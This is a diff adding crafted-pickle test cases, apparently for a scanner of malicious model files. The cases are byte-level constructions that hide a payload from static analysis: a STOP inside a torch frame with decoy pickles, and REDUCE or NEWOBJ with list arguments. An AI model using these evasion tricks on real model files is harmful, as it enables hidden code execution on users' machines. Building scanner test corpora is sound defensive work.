@@ -244,3 +244,42 @@ def _import_odd_name() -> bytes:
         expect=IMPORT_MODULE)
 def _inst_no_mark() -> bytes:
     return b"i" + IMPORT_MODULE.encode() + b"\nName\n."
+
+
+# ---------------------------------------------------------------- STOP inside a FRAME
+# A reader that takes a whole frame from the file (_pickle.c when the frame is larger than the
+# file's read-ahead, or on a BytesIO; the pure-Python unpickler always) leaves the file at the
+# frame end: the next pickle.load starts there, not after STOP. Decoy streams fill the rest.
+def _frame(body: bytes) -> bytes:
+    return b"\x95" + struct.pack("<Q", len(body)) + body
+
+
+def _pad(n: int) -> bytes:
+    return b"B" + struct.pack("<I", n) + b"\0" * n + b"0"  # BINBYTES, POPped
+
+
+TORCH_MAGIC = (0x1950A86A20F9469CFC6C).to_bytes(10, "little")
+
+
+@attack("torch-legacy-stop-in-frame", "stop_in_frame.pt", "torch",
+        "legacy torch file whose magic-number pickle STOPs inside a 16 KiB frame: torch.load's next "
+        "pickle.load starts at the frame end; the VM read clean decoy pickles after STOP")
+def _torch_stop_in_frame() -> bytes:
+    decoy = b"M\xe9\x03." + b"}." + b"}." + b"]."  # protocol 1001, sys_info, main, storage keys
+    first = b"\x8a\x0a" + TORCH_MAGIC + b"." + decoy + _pad(16_000) + b"N."
+    return b"\x80\x02" + _frame(first) + b"M\xe9\x03." + b"}." + PAYLOAD_BIN + b"." + b"]."
+
+
+# ---------------------------------------------------------------- call arguments pickle._Unpickler spreads
+@attack("reduce-list-args-py", "reduce_list_args.pkl", "pypickle",
+        "REDUCE with a list for arguments: _pickle.c wants a tuple, pickle._Unpickler calls func(*args); "
+        "the VM stopped there (inconclusive) and never saw the payload after it")
+def _reduce_list_args() -> bytes:
+    return b"\x80\x04" + short_unicode("collections") + short_unicode("OrderedDict") + b"\x93]R0" + PAYLOAD_BIN + b"."
+
+
+@attack("newobj-list-args-py", "newobj_list_args.pkl", "pypickle",
+        "NEWOBJ with a list for arguments: cls.__new__(cls, *args) in the pure-Python unpickler")
+def _newobj_list_args() -> bytes:
+    return b"\x80\x04" + short_unicode("collections") + short_unicode("OrderedDict") + b"\x93]\x810" + \
+        PAYLOAD_BIN + b"."
